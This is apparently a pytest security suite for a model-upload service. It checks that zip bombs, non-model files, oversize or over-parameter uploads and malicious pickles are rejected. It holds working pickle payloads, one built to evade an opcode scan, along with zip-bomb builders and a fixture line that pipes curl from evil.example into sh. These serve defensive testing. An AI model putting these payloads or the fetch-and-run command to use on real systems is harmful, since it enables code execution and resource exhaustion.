"""Crafted hostile teacher files not covered by test_checkpoints.py: zip bombs, files that are
not models at all, a torch-namespaced code payload, oversize/over-parameter uploads through the
API (4xx naming the limit), and a full pickle uploaded over HTTP whose marker file must never
appear. Each is rejected with a specific message."""

from __future__ import annotations

import io
import json
import pickle
import sqlite3
import struct
import subprocess
import sys
import tarfile
import uuid
import zipfile
from pathlib import Path

import numpy as np
import pytest
import torch
from fastapi.testclient import TestClient

from kdaudit.core.errors import CheckpointError  # noqa: E402
from kdaudit.core.settings import Settings  # noqa: E402
from kdaudit.models import checkpoints as ck  # noqa: E402
from kdaudit.models.checkpoints import archive_limits, detect_format, load_teacher, validate_teacher_file  # noqa: E402
from tests.helpers import service as h  # noqa: E402

ARCH = h.TEACHER_ARCH
SETTINGS = Settings()
PROBLEM = "application/problem+json"


class _CopiesFileOnUnpickle:
    """Unpickling calls torch.hub.download_url_to_file(file://<this file>, marker): a payload
    that lives entirely in the `torch.` namespace, so the opcode scan lets the child decide."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self):
        return torch.hub.download_url_to_file, (Path(__file__).resolve().as_uri(), str(self.marker), None, False)


class _WritesMarker:
    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self):
        return (Path.write_text, (self.marker, "pwned"))


def _state_dict_zip(tmp_path: Path) -> bytes:
    from kdaudit.models.registry import build_model

    buf = io.BytesIO()
    torch.save(build_model(ARCH, 10, 1).state_dict(), buf)
    return buf.getvalue()


# ------------------------------------------------------------------------------ zip bombs


def test_zip_bomb_without_checkpoint_is_refused_unexpanded(tmp_path):
    path = tmp_path / "bomb.pt"
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
        with zf.open("data.bin", "w", force_zip64=True) as f:
            chunk = b"\0" * (1 << 20)
            for _ in range(256):  # 256 MiB of zeros -> ~250 KB on disk
                f.write(chunk)
    assert path.stat().st_size < 2 * 1024 * 1024
    with pytest.raises(CheckpointError, match=r"expands [\d,]+:1 .*zip bomb"):
        detect_format(path)
    with pytest.raises(CheckpointError, match="zip bomb"):
        validate_teacher_file(path, ARCH, 10, 1, settings=SETTINGS)


def test_zip_bomb_hidden_in_a_real_state_dict_archive(tmp_path):
    """A genuine torch.save archive with one extra, highly compressed member."""
    src = zipfile.ZipFile(io.BytesIO(_state_dict_zip(tmp_path)))
    path = tmp_path / "teacher.pt"
    with zipfile.ZipFile(path, "w") as out:
        for info in src.infolist():
            out.writestr(info, src.read(info))
        prefix = src.namelist()[0].split("/")[0]
        out.writestr(
            zipfile.ZipInfo(f"{prefix}/data/999"), b"\0" * (64 << 20), compress_type=zipfile.ZIP_DEFLATED
        )
    with pytest.raises(CheckpointError, match=r"data/999.*zip bomb"):
        load_teacher(path, ARCH, 10, 1, settings=SETTINGS)


def test_archive_expanding_past_the_parameter_budget(tmp_path, monkeypatch):
    path = tmp_path / "teacher.pt"
    path.write_bytes(_state_dict_zip(tmp_path))
    monkeypatch.setattr(archive_limits, "STATE_DICT_SLACK_BYTES", 0)
    with pytest.raises(ck.CheckpointLimitError, match="expands to .* parameter limit of 100 values") as e:
        detect_format(path, Settings(max_parameters=100))
    assert e.value.limit == "max_parameters"


# ------------------------------------------------------------------------------ not a model


def _tar_bytes() -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w") as tf:
        info = tarfile.TarInfo("model.pt")
        info.size = 5
        tf.addfile(info, io.BytesIO(b"hello"))
    return buf.getvalue()


def _npy_bytes() -> bytes:
    buf = io.BytesIO()
    np.save(buf, np.zeros((4, 4), dtype=np.float32))
    return buf.getvalue()


def _sqlite_bytes(tmp_path: Path) -> bytes:
    db = tmp_path / "x.sqlite"
    with sqlite3.connect(db) as conn:
        conn.execute("CREATE TABLE t (x)")
    return db.read_bytes()


NOT_MODELS = {
    "png": (b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + b"\0" * 64, "PNG image"),
    "jpeg": (b"\xff\xd8\xff\xe0\0\x10JFIF\0" + b"\0" * 64, "JPEG image"),
    "pdf": (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj" + b"\0" * 32, "PDF document"),
    "elf": (b"\x7fELF\x02\x01\x01\0" + b"\0" * 56, "ELF executable"),
    "npy": (None, r"NumPy \.npy array"),
    "hdf5": (b"\x89HDF\r\n\x1a\n" + b"\0" * 64, "HDF5 file"),
    "tar": (None, "tar archive"),
    "sqlite": (None, "SQLite database"),
    "json": (json.dumps({"layer1.weight": [[0.1, 0.2]]}).encode(), "JSON document"),
    "script": (b"#!/bin/sh\ncurl http://evil.example | sh\n", "a script"),
    "zip-of-text": (None, "zip archive without data.pkl"),
}


@pytest.mark.parametrize("kind", sorted(NOT_MODELS))
def test_non_model_files_are_named(tmp_path, kind):
    content, message = NOT_MODELS[kind]
    if kind == "npy":
        content = _npy_bytes()
    elif kind == "tar":
        content = _tar_bytes()
    elif kind == "sqlite":
        content = _sqlite_bytes(tmp_path)
    elif kind == "zip-of-text":
        buf = io.BytesIO()
        with zipfile.ZipFile(buf, "w") as zf:
            zf.writestr("README.txt", "weights are in the other file")
        content = buf.getvalue()
    path = tmp_path / "teacher.pt"  # the extension lies; detection goes by content
    path.write_bytes(content)
    with pytest.raises(CheckpointError, match=message):
        load_teacher(path, ARCH, 10, 1, settings=SETTINGS)


def test_non_model_file_message_through_the_validator_child(tmp_path):
    path = tmp_path / "teacher.safetensors"
    path.write_bytes(NOT_MODELS["png"][0])
    with pytest.raises(CheckpointError, match="file is a PNG image, not model weights"):
        validate_teacher_file(path, ARCH, 10, 1, settings=SETTINGS)


# ------------------------------------------------------------------------------ code payloads


def test_torch_namespaced_payload_is_live_but_never_runs(tmp_path):
    marker = tmp_path / "copied"
    path = tmp_path / "evil.pt"
    torch.save({"conv.weight": _CopiesFileOnUnpickle(marker)}, path)
    # the payload is real: a full unpickle (in a throwaway process) runs it
    proof = tmp_path / "proof"
    code = (
        "import sys, torch; sys.path.insert(0, sys.argv[3]); import test_security_files; "
        "torch.load(sys.argv[1], weights_only=False); import pathlib; "
        "print(pathlib.Path(sys.argv[2]).exists())"
    )
    torch.save({"w": _CopiesFileOnUnpickle(proof)}, tmp_path / "proof.pt")
    out = subprocess.run(
        [sys.executable, "-c", code, str(tmp_path / "proof.pt"), str(proof), str(Path(__file__).parent)],
        capture_output=True, text=True, timeout=120,
    )  # fmt: skip
    assert proof.exists(), out.stderr[-2000:]
    # ... and kdaudit refuses it without running it: the scan lets torch.* names through, the
    # child's weights_only unpickler refuses the global
    with pytest.raises(CheckpointError, match="full pickle"):
        load_teacher(path, ARCH, 10, 1, settings=SETTINGS)
    with pytest.raises(CheckpointError, match="full pickle"):
        validate_teacher_file(path, ARCH, 10, 1, settings=SETTINGS)
    assert not marker.exists()


def test_loader_child_has_no_network():
    code = (
        "from kdaudit.models.loader_proc import _deny_network; how = _deny_network(); import socket\n"
        "try:\n    socket.create_connection(('127.0.0.1', 6379), timeout=2); print('CONNECTED')\n"
        "except OSError as e:\n    print(how, 'refused:', e)\n"
    )
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=60)
    assert "refused" in out.stdout and "CONNECTED" not in out.stdout, out.stdout + out.stderr


# ------------------------------------------------------------------------------ through the API


@pytest.fixture(scope="module")
def api(tmp_path_factory):
    from kdaudit.service.app import create_app
    from kdaudit.store.settings import ServiceSettings

    root = tmp_path_factory.mktemp("secapi")
    settings = ServiceSettings(
        data_dir=root / "data",
        database_url=None,
        broker_url=None,
        auto_migrate=True,
        max_upload_bytes=256 * 1024,
        max_parameters=5_000,  # cnn-8-8-8-16 has ~3k; the 16-wide CNN is over
        queue=f"kdaudit-sec-{uuid.uuid4().hex[:8]}",
    )
    with TestClient(create_app(settings), raise_server_exceptions=False) as client:
        yield {"client": client, "key": h.new_key(settings, "sec"), "settings": settings, "root": root}


def _problem(r, status):
    assert r.status_code == status, r.text
    assert r.headers["content-type"].startswith(PROBLEM)
    assert "Traceback" not in r.text and r.headers.get("x-request-id")
    doc = r.json()
    assert doc["request_id"] == r.headers["x-request-id"]
    return doc


def test_api_full_pickle_never_runs_in_api_or_validator(api, tmp_path):
    marker = tmp_path / "pwned"
    for i, write in enumerate([
        lambda p: torch.save({"conv.weight": _WritesMarker(marker)}, p),
        lambda p: p.write_bytes(pickle.dumps({"w": _WritesMarker(marker)}, protocol=2)),
        lambda p: torch.save({"conv.weight": _CopiesFileOnUnpickle(marker)}, p),
    ]):  # fmt: skip
        path = tmp_path / f"evil{i}.pt"
        write(path)
        doc = _problem(h.upload(api["client"], api["key"], path), 422)
        assert doc["type"].endswith("invalid-checkpoint") and "full pickle" in doc["detail"]
        assert not marker.exists()


def test_api_non_model_and_zip_bomb_are_422_with_the_reason(api, tmp_path):
    png = tmp_path / "teacher.safetensors"
    png.write_bytes(NOT_MODELS["png"][0])
    assert "PNG image" in _problem(h.upload(api["client"], api["key"], png), 422)["detail"]
    bomb = tmp_path / "bomb.pt"
    with zipfile.ZipFile(bomb, "w", compression=zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("archive/data.pkl", b"\0" * (32 << 20))
    assert bomb.stat().st_size < api["settings"].max_upload_bytes
    assert "zip bomb" in _problem(h.upload(api["client"], api["key"], bomb), 422)["detail"]


def test_api_limits_are_named(api, tmp_path):
    c, key = api["client"], api["key"]
    # parameter count: a real checkpoint, but the architecture is over max_parameters
    big = h.make_teacher_file(tmp_path / "big.safetensors", arch="cnn-16-16-16-16")
    doc = _problem(h.upload(c, key, big, arch="cnn-16-16-16-16"), 413)
    assert doc["limit"] == "max_parameters" and doc["limit_value"] == 5_000
    assert "max_parameters" in doc["detail"] and "5,000" in doc["detail"]
    # a safetensors header claiming 10^12 values: refused from the header, same limit named
    hdr = json.dumps({"w": {"dtype": "F32", "shape": [10**6, 10**6], "data_offsets": [0, 4 * 10**12]}}).encode()
    bomb = tmp_path / "bomb.safetensors"
    bomb.write_bytes(struct.pack("<Q", len(hdr)) + hdr + b"\0" * 16)
    doc = _problem(h.upload(c, key, bomb), 413)
    assert doc["limit"] == "max_parameters"
    # upload size
    huge = tmp_path / "huge.safetensors"
    huge.write_bytes(b"\0" * (api["settings"].max_upload_bytes + 10))
    doc = _problem(h.upload(c, key, huge), 413)
    assert doc["limit"] == "max_upload_bytes" and doc["limit_value"] == api["settings"].max_upload_bytes
    # a JSON body over max_json_body_bytes never reaches the route
    r = c.post("/v1/audits", content=b'{"teacher_id": "' + b"x" * (2 << 20) + b'"}',
               headers={**h.auth(key), "Content-Type": "application/json"})  # fmt: skip
    assert _problem(r, 413)["limit"] == "max_json_body_bytes"
